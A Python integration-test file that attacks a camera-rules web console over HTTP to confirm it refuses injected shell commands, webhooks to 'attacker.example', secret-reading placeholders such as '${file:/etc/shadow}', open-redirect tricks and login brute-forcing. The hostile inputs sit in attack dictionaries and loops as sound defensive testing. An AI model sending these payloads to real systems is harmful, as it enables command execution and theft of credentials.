"""The console as its attacker sees it: a login or one API token must not make anyone root or a reader
of secrets. Each test is a finding of issue #23, done over HTTP against a real console process."""

from __future__ import annotations

import http.client
import json
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webdriver import WebDriver
from selenium.webdriver.support.ui import WebDriverWait

from common.config import load_config
from tests.integration.conftest import Services
from tests.integration.test_console import CAMERA_PASSWORD, PASSWORD, TOKEN, Client, console_site, start_console

pytestmark = pytest.mark.slow

BEARER = {"Authorization": f"Bearer {TOKEN}"}
HOOK_TOKEN = "hook-token-7f3a9c41e2"
SECRET = "TOPSECRET-file-5b8d0e"


def hostile_site(tmp_path: Path, **console: Any) -> dict[str, Any]:
    """The console test site, with a secret file, a webhook whose token comes from a file and a
    command action, both as the site's owner wrote them on disk."""
    (tmp_path / "hook_token").write_text(HOOK_TOKEN)
    (tmp_path / "secret").write_text(SECRET + "\n")
    site = console_site(tmp_path)
    door = site["cameras"]["lobby"]["rules"]["door"]
    door["actions"] = [
        {"type": "webhook", "url": f"https://hooks.site.example/door?token=${{file:{tmp_path / 'hook_token'}}}"},
        {"type": "command", "argv": ["/usr/bin/logger", "door crossed"]},
    ]
    site["console"] |= {"webhook_hosts": ["hooks.site.example", "alarm.site.example:8443"], **console}
    return site


def put(client: Client, camera: str, rules: Any) -> tuple[int, Any]:
    status, answer = client.json("PUT", f"/api/cameras/{camera}/rules", {"rules": rules}, **BEARER)
    return status, answer


def rules_on_disk(client: Client, camera: str = "lobby") -> dict[str, Any]:
    status, answer = client.json("GET", f"/api/cameras/{camera}/rules", **BEARER)
    assert status == 200, answer
    rules: dict[str, Any] = answer["rules"]
    return rules


def audit_records(site: Services) -> list[dict[str, Any]]:
    path = Path(site.config.site.state_dir) / "audit.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_the_editor_cannot_add_what_executes_or_sends(
    tmp_path: Path, services: Callable[[dict[str, Any]], Services]
) -> None:
    site = services(hostile_site(tmp_path))
    client = start_console(site)
    original = site.site.read_bytes()
    marker = tmp_path / "pwned"
    current = rules_on_disk(client)
    assert current["door"]["actions"][0]["url"].endswith(f"${{file:{tmp_path / 'hook_token'}}}")  # as written

    def with_actions(*actions: dict[str, Any], rule: str = "door") -> dict[str, Any]:
        rules = json.loads(json.dumps(current))
        rules[rule]["actions"] = [*rules[rule].get("actions", []), *actions]
        return rules

    attacks = {
        "a command": with_actions({"type": "command", "argv": ["/bin/sh", "-c", f"id > {marker}"]}),
        "a command on a rule without actions": with_actions({"type": "command", "argv": ["/bin/true"]}, rule="desk"),
        "a gpio line": with_actions({"type": "gpio", "line": 17}),
        "a webhook that leaks secrets": with_actions(
            {"type": "webhook", "url": f"http://127.0.0.1:9/leak?pw=${{file:{tmp_path / 'console_password'}}}"}
        ),
        "a webhook with an environment variable": with_actions(
            {"type": "webhook", "url": "https://hooks.site.example/x?t=${API_TOKEN}"}
        ),
        "a webhook elsewhere": with_actions({"type": "webhook", "url": "https://attacker.example/collect"}),
        "a webhook with credentials": with_actions({"type": "webhook", "url": "https://u:p@hooks.site.example/x"}),
        "a webhook to an allowed host:port on another port": with_actions(
            {"type": "webhook", "url": "https://alarm.site.example:9000/x"}
        ),
    }
    changed_command = json.loads(json.dumps(current))
    changed_command["door"]["actions"][1]["argv"] = ["/bin/sh", "-c", f"id > {marker}"]
    attacks["a changed command"] = changed_command
    moved_webhook = json.loads(json.dumps(current))
    moved_webhook["door"]["actions"][0]["url"] = "https://attacker.example/door"
    attacks["the site's webhook pointed elsewhere"] = moved_webhook
    for what, rules in attacks.items():
        status, answer = put(client, "lobby", rules)
        assert status == 403, (what, answer)
        assert answer["key"].startswith("cameras.lobby.rules."), (what, answer)
        assert site.site.read_bytes() == original, what
    assert not marker.exists()
    refused = [r for r in audit_records(site) if r["action"] == "config.save_refused"]
    assert len(refused) == len(attacks)
    assert all(r["actor"] == "console:api-token@127.0.0.1" and r["detail"]["reason"] for r in refused)

    # What the console may do: geometry, names, classes; a webhook to an allowed host; the site's own
    # actions kept (their placeholder round-trips unexpanded), also under a new name.
    allowed = json.loads(json.dumps(current))
    allowed["entry"] = allowed.pop("door")
    allowed["entry"]["line"] = [[0.1, 0.7], [0.9, 0.7]]
    allowed["entry"]["in_side"] = "left"
    allowed["desk"]["actions"] = [{"type": "webhook", "url": "https://alarm.site.example:8443/desk"}]
    status, answer = put(client, "lobby", allowed)
    assert status == 200, answer
    assert answer["rules"]["entry"]["actions"] == current["door"]["actions"]
    config = load_config(site.site)
    assert config.cameras["lobby"].rules["entry"].actions[0].url.endswith(f"token={HOOK_TOKEN}")  # in force
    assert HOOK_TOKEN not in site.site.read_text()
    save = [r for r in audit_records(site) if r["action"] == "config.save"][-1]
    keys = {change["key"]: change for change in save["changes"]}
    assert keys["cameras.lobby.rules.entry.line"]["new"] == [[0.1, 0.7], [0.9, 0.7]]
    assert keys["cameras.lobby.rules.door.line"]["old"] == [[0.1, 0.5], [0.9, 0.5]]
    assert keys["cameras.lobby.rules.desk.actions[0].url"]["new"] == "https://alarm.site.example:8443/desk"
    assert save["detail"]["changed_keys"] == len(save["changes"])
    assert HOOK_TOKEN not in json.dumps(save) and SECRET not in json.dumps(save)


def test_placeholders_from_the_network_are_never_expanded(
    tmp_path: Path, services: Callable[[dict[str, Any]], Services]
) -> None:
    site = services(hostile_site(tmp_path))
    client = start_console(site)
    original = site.site.read_bytes()
    current = rules_on_disk(client)
    secrets = [f"${{file:{tmp_path / 'secret'}}}", f"${{file:{tmp_path / 'console_password'}}}", "${file:/etc/shadow}"]
    secrets += ["${file:/proc/self/environ}", "${HOME}", "${PATH:-x}"]
    for placeholder in secrets:
        for key in ("in_side", "type", "classes", "line"):
            rules = json.loads(json.dumps(current))
            rules["door"][key] = [placeholder] if key == "classes" else placeholder
            status, _, content = client.call("PUT", "/api/cameras/lobby/rules", {"rules": rules}, BEARER)
            text = content.decode()
            assert status == 403, (placeholder, key, text)
            assert "placeholders" in json.loads(text)["error"]
            for value in (SECRET, PASSWORD, TOKEN, "root:"):
                assert value not in text, (placeholder, key)
        renamed = {f"x{placeholder}": current["door"]}
        assert put(client, "lobby", renamed)[0] == 403
    assert site.site.read_bytes() == original

    # what the writer (ruamel) and the readers (PyYAML) would disagree on is refused, not saved as
    # something other than what was validated: "?person" in a flow list reads back as a mapping
    for classes in (["?person"], ["per\x85son"], ["on"]):
        rules = json.loads(json.dumps(current))
        rules["door"]["classes"] = classes
        status, answer = put(client, "lobby", rules)
        assert status == 422, (classes, answer)
    assert site.site.read_bytes() == original


def test_validation_never_echoes_an_expanded_value(tmp_path: Path) -> None:
    """Even the site file's own placeholders: an error repeats what was written, never what it expanded to."""
    from common.config import parse_config
    from common.errors import ConfigError

    (tmp_path / "secret").write_text(SECRET)
    text = f"""\
site: {{name: s}}
cameras:
  c:
    url: rtsp://10.0.0.1/x
    rules:
      r: {{type: line, line: [[0, 0.5], [1, 0.5]], in_side: "${{file:{tmp_path / "secret"}}}"}}
      z: {{type: zone, polygon: [[0, 0], [1, 0], [1, 1]], inertia_frames: "${{SOME_NUMBER}}"}}
"""
    with pytest.raises(ConfigError) as raised:
        parse_config(text, "site.yaml", environ={"SOME_NUMBER": "lots-of-9876"})
    message = str(raised.value)
    assert "cameras.c.rules.r.in_side" in message and "cameras.c.rules.z.inertia_frames" in message
    assert SECRET not in message and "9876" not in message


def test_rules_are_bounded_and_an_alias_is_saved_as_a_copy(
    tmp_path: Path, services: Callable[[dict[str, Any]], Services]
) -> None:
    square = [[0.1 + 0.001 * i, 0.1 + (i % 2) * 0.5] for i in range(63)] + [[0.05, 0.9]]
    many = {f"z{i}": {"type": "zone", "polygon": square} for i in range(40)}  # 2,560 vertices
    site_data = console_site(tmp_path)
    site_data["cameras"]["dock"]["rules"] = many
    site = services(site_data)
    # camera "yard" shares lobby's rules through a YAML anchor, as people write it
    text = site.site.read_text()
    data = yaml.safe_load(text)
    lobby_rules = data["cameras"]["lobby"].pop("rules")
    yard = {"url": "rtsp://10.9.9.11/stream"}
    body = yaml.safe_dump({"cameras": {**data["cameras"], "yard": yard}}, sort_keys=False)
    rules_yaml = json.dumps(lobby_rules)
    body = body.replace("  lobby:\n", f"  lobby:\n    rules: &shared {rules_yaml}\n", 1)
    body = body.replace("  yard:\n", "  yard:\n    rules: *shared\n", 1)
    site.site.write_text(yaml.safe_dump({k: v for k, v in data.items() if k != "cameras"}, sort_keys=False) + body)
    site.config = load_config(site.site)
    assert site.config.cameras["yard"].rules.keys() == {"door", "desk"}
    client = start_console(site)
    original = site.site.read_bytes()

    started = time.monotonic()
    too_many = {f"r{i}": {"type": "line", "line": [[0, 0.5], [1, 0.5]]} for i in range(6000)}
    status, answer = put(client, "lobby", too_many)
    assert status == 422 and "at most 64" in answer["errors"][0]["message"], answer
    assert answer["errors"][0]["key"] == "cameras.lobby.rules"
    assert time.monotonic() - started < 10  # refused before the site file is parsed 6,000 times over

    heavy = {f"z{i}": {"type": "zone", "polygon": square} for i in range(30)}  # with dock's: 4,480 vertices
    status, answer = put(client, "lobby", heavy)
    assert status == 422 and "4096 vertices" in answer["errors"][0]["message"], answer
    assert answer["errors"][0]["key"].startswith("cameras.")  # where the count passes the limit

    deep: Any = "x"
    for _ in range(30):
        deep = [deep]
    status, answer = put(client, "lobby", {"door": {"type": "line", "line": deep}})
    assert status == 422 and "nested deeper" in answer["errors"][0]["message"]
    nested = ("[" * 100_000 + "]" * 100_000).encode()
    connection = http.client.HTTPConnection("127.0.0.1", site.config.console.port, timeout=10)  # type: ignore[union-attr]
    connection.request("PUT", "/api/cameras/lobby/rules", body=b'{"rules": ' + nested + b"}", headers={**BEARER})
    reply = connection.getresponse()
    assert reply.status == 400 and "error" in json.loads(reply.read())
    assert site.site.read_bytes() == original

    # saving yard (an alias of lobby's rules) changes yard alone, and the audit names both
    changed = json.loads(json.dumps(lobby_rules))
    changed["door"]["line"] = [[0.2, 0.4], [0.8, 0.4]]
    status, answer = put(client, "yard", changed)
    assert status == 200, answer
    after = load_config(site.site)
    assert after.cameras["yard"].rules["door"].line == ((0.2, 0.4), (0.8, 0.4))
    assert after.cameras["lobby"].rules["door"].line == ((0.1, 0.5), (0.9, 0.5))
    save = [r for r in audit_records(site) if r["action"] == "config.save"][-1]
    assert save["target"] == "cameras.yard.rules" and save["detail"]["unshared_from"] == "cameras.lobby.rules"
    assert "Traceback" not in site.log("console")


def test_client_errors_are_4xx_json_without_a_traceback(
    tmp_path: Path, services: Callable[[dict[str, Any]], Services]
) -> None:
    site = services(console_site(tmp_path))
    client = start_console(site)
    for path in (
        "/api/events?since=99999999999999999999999999",
        "/api/events?until=9999-12-31T23:59:59%2B14:00&since=0001-01-01T00:00:00",
        "/api/events?before=99999999999999999999999:1",
        "/api/events?limit=1e999",
        "/api/events?since=1e400",
    ):
        status, answer = client.json("GET", path, **BEARER)
        assert 400 <= status < 500 and "error" in answer, (path, status, answer)
    status, _, content = client.call("GET", "/api/cameras/nosuch/rules", headers=BEARER)
    assert status == 404 and json.loads(content)["error"] == "no camera 'nosuch'"
    connection = http.client.HTTPConnection("127.0.0.1", site.config.console.port, timeout=10)  # type: ignore[union-attr]
    connection.request("GET", "/api/cameras", headers={**BEARER, "X-Big": "a" * 200_000})
    assert 400 <= connection.getresponse().status < 500
    time.sleep(0.5)  # the log line, if any, is written after the answer
    log = site.log("console")
    assert "Traceback" not in log and "level=error" not in log, log[-3000:]


def login_from(port: int, address: str, password: str, forwarded_for: str | None = None) -> int:
    """A login POST whose TCP connection comes from ``address`` (any 127.x.y.z is this machine)."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10, source_address=(address, 0))
    headers = {"Content-Type": "application/json"}
    if forwarded_for:
        headers["X-Forwarded-For"] = forwarded_for
    connection.request("POST", "/api/login", body=json.dumps({"password": password}), headers=headers)
    status = connection.getresponse().status
    connection.close()
    return status


def test_failed_logins_from_others_never_lock_the_admin_out(
    tmp_path: Path, services: Callable[[dict[str, Any]], Services]
) -> None:
    site = services(hostile_site(tmp_path, trusted_proxies=["127.0.0.1/32"]))
    start_console(site)
    port = site.config.console.port  # type: ignore[union-attr]

    # one failure from each of 32 addresses, then more: the site-wide count never refuses the right password
    for i in range(2, 40):
        assert login_from(port, f"127.0.1.{i}", f"guess-{i}") == 401
    assert login_from(port, "127.0.2.1", PASSWORD) == 200

    # one address that keeps guessing waits; another address is not held up by it
    statuses = [login_from(port, "127.0.3.1", f"guess-{i}") for i in range(7)]
    assert statuses[:5] == [401] * 5 and statuses[5:] == [429, 429], statuses
    assert login_from(port, "127.0.3.1", PASSWORD) == 429  # this address, even with the right one, for now
    assert login_from(port, "127.0.3.2", PASSWORD) == 200

    # behind the TLS proxy (127.0.0.1, trusted), clients are told apart by X-Forwarded-For
    for i in range(6):
        login_from(port, "127.0.0.1", f"guess-{i}", forwarded_for="203.0.113.5")
    assert login_from(port, "127.0.0.1", PASSWORD, forwarded_for="203.0.113.5") == 429
    assert login_from(port, "127.0.0.1", PASSWORD, forwarded_for="203.0.113.6") == 200
    # ... and a client that is not the proxy cannot pick its own address with the header
    for i in range(6):
        login_from(port, "127.0.4.1", f"guess-{i}", forwarded_for=f"198.51.100.{i}")
    assert login_from(port, "127.0.4.1", PASSWORD, forwarded_for="198.51.100.99") == 429


def test_login_sends_the_browser_only_to_this_console(
    tmp_path: Path,
    services: Callable[[dict[str, Any]], Services],
    browser: WebDriver,
) -> None:
    """``/login?next=...`` after a login, in a real browser: backslash and tab tricks that browsers read
    as ``//elsewhere`` stay on the console; a path of its own is followed."""
    site = services(console_site(tmp_path))
    client = start_console(site)
    base = client.base
    for hostile in ("/%5C127.0.0.1:9/phish", "/%09/127.0.0.1:9/phish", "//127.0.0.1:9/x", "https://127.0.0.1:9/x"):
        browser.delete_all_cookies()
        browser.get(f"{base}/login?next={hostile}")
        browser.find_element(By.ID, "password").send_keys(PASSWORD)
        browser.find_element(By.ID, "submit").click()
        WebDriverWait(browser, 10, poll_frequency=0.2).until(lambda d: not d.current_url.startswith(base + "/login"))
        assert browser.current_url == base + "/", (hostile, browser.current_url)
    browser.delete_all_cookies()
    browser.get(f"{base}/login?next=%2Fevents%3Fcamera%3Dlobby")
    browser.find_element(By.ID, "password").send_keys(PASSWORD)
    browser.find_element(By.ID, "submit").click()
    WebDriverWait(browser, 10, poll_frequency=0.2).until(lambda d: not d.current_url.startswith(base + "/login"))
    assert browser.current_url == base + "/events?camera=lobby"


def test_thirty_seconds_of_hostile_requests_leak_no_secret(
    tmp_path: Path, services: Callable[[dict[str, Any]], Services]
) -> None:
    """Console, rules and uplink on one bus; a client with the API token sends every hostile request
    above in a loop for 30 s. No secret's value may appear in any answer, log line, metric, audit
    record or file the services write."""
    camera_token = "camtoken-4417ab93"
    mqtt_password = "mqtt-password-61c0e2"
    (tmp_path / "mqtt_password").write_text(mqtt_password)
    data = hostile_site(tmp_path)
    data["cameras"]["lobby"]["url"] = f"rtsp://admin:{CAMERA_PASSWORD}@10.9.9.9:554/stream?token={camera_token}"
    data["uplink"] = {
        "jsonl": {"path": "uplink.jsonl"},
        "mqtt": {
            "host": "127.0.0.1",
            "port": 9,
            "username": "site",
            "password": f"${{file:{tmp_path / 'mqtt_password'}}}",
        },
    }
    data["events"] = {"jsonl": "events.jsonl"}
    site = services(data)
    client = start_console(site)  # the broker, then the console
    for name in ("rules", "uplink"):
        site.start(name)
    secrets = [PASSWORD, TOKEN, CAMERA_PASSWORD, camera_token, HOOK_TOKEN, SECRET, mqtt_password]
    placeholders = [f"${{file:{tmp_path / name}}}" for name in ("secret", "console_password", "mqtt_password")]
    placeholders += ["${file:/etc/shadow}", "${file:/proc/self/environ}"]
    current = rules_on_disk(client)
    answers: list[str] = []

    def hostile_rules(round_: int) -> dict[str, Any]:
        rules = json.loads(json.dumps(current))
        placeholder = placeholders[round_ % len(placeholders)]
        choice = round_ % 6
        if choice == 0:
            rules["door"]["in_side"] = placeholder
        elif choice == 1:
            rules["door"]["actions"].append({"type": "webhook", "url": f"http://127.0.0.1:9/?x={placeholder}"})
        elif choice == 2:
            rules["desk"]["actions"] = [{"type": "command", "argv": ["/bin/sh", "-c", f"cat {placeholder}"]}]
        elif choice == 3:
            rules[f"r{placeholder}"] = rules["desk"]
        elif choice == 4:
            rules["door"]["classes"] = [placeholder, "person"]
        else:  # an allowed change: the save, its reload and its audit diff run too
            rules["door"]["line"] = [[0.1, 0.4 + 0.01 * (round_ % 10)], [0.9, 0.5]]
        return rules

    deadline, round_ = time.monotonic() + 30, 0
    while time.monotonic() < deadline:
        status, headers, content = client.call(
            "PUT", "/api/cameras/lobby/rules", {"rules": hostile_rules(round_)}, BEARER
        )
        assert status in (200, 403), content[:300]
        answers.append(f"{status} {headers} {content.decode(errors='replace')}")
        path = ["/api/cameras", "/api/cameras/lobby/rules", "/api/services", "/api/audit", "/api/counts"][round_ % 5]
        answers.append(client.call("GET", path, headers=BEARER)[2].decode(errors="replace"))
        answers.append(client.call("GET", f"/api/events?since={placeholders[0]}", headers=BEARER)[2].decode())
        status = login_from(site.config.console.port, f"127.0.6.{round_ % 200 + 1}", placeholders[round_ % 5])  # type: ignore[union-attr]
        assert status in (401, 429)
        round_ += 1
        time.sleep(0.05)
    assert round_ > 20, "the loop ran"

    metrics = [
        urllib.request.urlopen(f"{site.base(name)}/metrics", timeout=5).read().decode() for name in site.processes
    ]
    logs = [site.log(name) for name in site.processes]
    state = Path(site.config.site.state_dir)
    files = [path.read_bytes().decode(errors="replace") for path in state.rglob("*") if path.is_file()]
    assert any("config.save_refused" in text for text in files), "the refusals were audited"
    assert any('"config.save"' in text for text in files), "the allowed saves were audited"
    everything = "\n".join(answers + metrics + logs + files)
    for secret in secrets:
        assert secret not in everything, f"a secret leaked: {secret}"
    assert "root:" not in everything
    assert site.site.read_text().count("command") == 1  # only the site's own command action
